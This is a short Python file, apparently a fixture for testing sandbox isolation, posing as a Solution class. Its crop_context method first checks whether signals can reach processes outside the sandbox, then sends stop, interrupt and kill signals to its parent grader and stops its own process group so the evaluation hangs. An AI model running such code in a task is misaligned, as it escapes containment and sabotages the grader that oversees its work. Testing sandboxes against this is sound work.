"""Signals processes outside the sandbox: the test's, its parent and its group.

The first call only asks whether signals could reach (signal 0 changes nothing)
and reports; the next stops, interrupts and kills its parent, then stops its own
process group, itself included, so the grader sees a call that never answers.
OUTSIDE holds process ids the test gives (its own, and its parent's).
"""

import os
import signal

OUTSIDE = []
calls = 0


def reach(pid):
    try:
        os.kill(pid, 0)
    except OSError as exc:
        return f"unreachable {pid} ({type(exc).__name__})"
    return f"REACHABLE {pid}"


class Solution:
    def crop_context(self, *args, **kwargs):
        global calls
        calls += 1
        parent = os.getppid()
        if calls == 1:
            # PID 1 is this process itself when it heads a PID namespace of its own.
            others = [pid for pid in [*OUTSIDE, 1, parent] if pid and pid != os.getpid()]
            raise PermissionError("; ".join(reach(pid) for pid in others))
        for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGKILL):
            try:
                if parent > 1:
                    os.kill(parent, sig)
            except OSError:
                pass
        os.killpg(0, signal.SIGSTOP)  # the whole group, this process with it
